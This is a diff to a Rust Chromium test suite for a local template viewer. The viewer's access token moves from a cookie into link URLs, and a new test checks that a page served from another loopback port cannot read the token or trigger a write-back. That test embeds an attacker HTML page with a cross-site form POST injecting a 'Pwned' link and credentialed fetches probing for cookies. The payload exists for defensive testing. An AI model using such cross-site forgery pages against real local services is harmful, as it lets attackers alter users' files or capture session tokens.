@@ -71,16 +71,17 @@ fn the_viewer_in_chromium_follows_a_line_to_its_template_and_model_and_writes_an
     let viewer = start_viewer(p.path());
     let browser = chromium();
 
-    // The printed URL: its token becomes a cookie, and the address bar
-    // drops it.
+    // The printed URL: the token stays in the address (never in a
+    // cookie, which every port of 127.0.0.1 would get), and every link
+    // carries it.
     browser.goto(&viewer.url);
-    assert_eq!(browser.url(), format!("{}/", viewer.base()));
+    assert_eq!(browser.url(), viewer.url);
     let outputs = browser.text(&browser.find("#outputs"));
     assert!(outputs.contains("conversations.html"), "{outputs}");
     browser.screenshot(&screenshot("viewer-project"));
 
     // Click an output, then one of its lines.
-    browser.click(&browser.find("#outputs a[href='/output?path=conversations.html']"));
+    browser.click(&browser.find("#outputs a[href^='/output?path=conversations.html&token=']"));
     browser.click(&browser.find("#L22 a"));
     let origin = browser.text(&browser.find("#origin"));
     assert!(origin.contains("layout.html:22"), "{origin}");
@@ -160,7 +161,7 @@ fn the_viewer_in_chromium_writes_back_a_new_form_field_added_by_hand() {
     let viewer = start_viewer(p.path());
     let browser = chromium();
     browser.goto(&viewer.url);
-    browser.click(&browser.find("#outputs a[href='/output?path=conversations.html']"));
+    browser.click(&browser.find("#outputs a[href^='/output?path=conversations.html&token=']"));
 
     // The page says the file holds hand edits and proposes the change,
     // writing nothing yet.
@@ -374,4 +375,128 @@ fn each_generated_app_can_be_clicked_through_in_chromium() {
         }
         drop(server);
     }
+}
+
+/// What a server on another loopback port received: every request's head.
+struct Neighbour {
+    base: String,
+    heads: std::sync::Arc<std::sync::Mutex<Vec<String>>>,
+    stop: std::sync::Arc<std::sync::atomic::AtomicBool>,
+}
+
+impl Drop for Neighbour {
+    fn drop(&mut self) {
+        self.stop.store(true, std::sync::atomic::Ordering::SeqCst);
+        // Wake the accept loop so that it sees the flag.
+        let _ = std::net::TcpStream::connect(self.base.trim_start_matches("http://"));
+    }
+}
+
+/// Another program's web server on 127.0.0.1 (another user's, or the
+/// generated app run from `out/`): it serves `page` and keeps the head of
+/// every request it gets, cookies and referrer included.
+fn neighbour(page: String) -> Neighbour {
+    use std::io::{Read, Write};
+    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
+    let base = format!("http://{}", listener.local_addr().unwrap());
+    let heads = std::sync::Arc::new(std::sync::Mutex::new(Vec::new()));
+    let stop = std::sync::Arc::new(std::sync::atomic::AtomicBool::new(false));
+    let (kept, stopped) = (heads.clone(), stop.clone());
+    std::thread::spawn(move || {
+        for stream in listener.incoming() {
+            if stopped.load(std::sync::atomic::Ordering::SeqCst) {
+                break;
+            }
+            let Ok(mut stream) = stream else { continue };
+            let _ = stream.set_read_timeout(Some(Duration::from_secs(5)));
+            let mut head = Vec::new();
+            let mut byte = [0u8; 1];
+            while !head.ends_with(b"\r\n\r\n") && head.len() < 65536 {
+                match stream.read(&mut byte) {
+                    Ok(1) => head.push(byte[0]),
+                    _ => break,
+                }
+            }
+            kept.lock()
+                .unwrap()
+                .push(String::from_utf8_lossy(&head).into_owned());
+            let answer = format!(
+                "HTTP/1.1 200 OK\r\ncontent-type: text/html\r\ncontent-length: {}\r\nconnection: close\r\n\r\n{page}",
+                page.len()
+            );
+            let _ = stream.write_all(answer.as_bytes());
+        }
+    });
+    Neighbour { base, heads, stop }
+}
+
+/// The viewer's token is in no cookie: a page the user opens from another
+/// server on 127.0.0.1 gets nothing of it (cookies are scoped by host, not
+/// port, and SameSite counts every port of a host as one site), and what
+/// that page makes the browser send to the viewer reads and writes
+/// nothing.
+#[test]
+fn a_page_on_another_loopback_port_gets_no_viewer_token_and_writes_nothing() {
+    let p = generated_chat();
+    let model_before = std::fs::read(p.path().join("model.ttl")).unwrap();
+    let viewer = start_viewer(p.path());
+    let browser = chromium();
+    browser.goto(&viewer.url);
+    assert!(
+        browser
+            .text(&browser.find("#outputs"))
+            .contains("conversations.html")
+    );
+    browser.click(&browser.find("#outputs a[href^='/output?path=conversations.html&token=']"));
+    assert!(browser.url().contains(&viewer.token));
+
+    // The attacker's page: it asks its own server (which would get every
+    // cookie of 127.0.0.1), reads the viewer as the browser, and posts a
+    // write-back to it from a form.
+    let page = format!(
+        r#"<!DOCTYPE html><html><body><p id="ready">attacker</p>
+<img src="/pixel">
+<iframe name="sink"></iframe>
+<form id="f" method="post" action="{base}/write-back" target="sink">
+<input name="output" value="conversations.html"><input name="line" value="22">
+<input name="text" value="      <a href=&quot;thread.html&quot;>Pwned</a>">
+<input name="apply" value="1"><input name="accept_effects" value="1">
+<input name="token" value="guess">
+</form>
+<script>
+fetch('/own', {{credentials: 'include'}}).catch(() => {{}});
+fetch('{base}/', {{credentials: 'include', mode: 'no-cors'}}).catch(() => {{}});
+document.getElementById('f').submit();
+</script></body></html>"#,
+        base = viewer.base()
+    );
+    let other = neighbour(page);
+    browser.goto(&format!("{}/", other.base));
+    assert!(
+        browser.wait_for(
+            "return document.getElementById('ready') !== null;",
+            Duration::from_secs(10)
+        ),
+        "the attacker's page did not load"
+    );
+    // Its own requests (the page, the image, the fetch) have arrived.
+    let deadline = std::time::Instant::now() + Duration::from_secs(10);
+    while other.heads.lock().unwrap().len() < 3 && std::time::Instant::now() < deadline {
+        std::thread::sleep(Duration::from_millis(50));
+    }
+    std::thread::sleep(Duration::from_millis(500));
+    let heads = other.heads.lock().unwrap().clone();
+    assert!(heads.len() >= 3, "{heads:?}");
+    for head in &heads {
+        assert!(
+            !head.contains(&viewer.token),
+            "the other port got the viewer's token: {head}"
+        );
+        assert!(!head.to_ascii_lowercase().contains("cookie:"), "{head}");
+    }
+    assert_eq!(
+        std::fs::read(p.path().join("model.ttl")).unwrap(),
+        model_before,
+        "the attacker's form wrote back"
+    );
 }
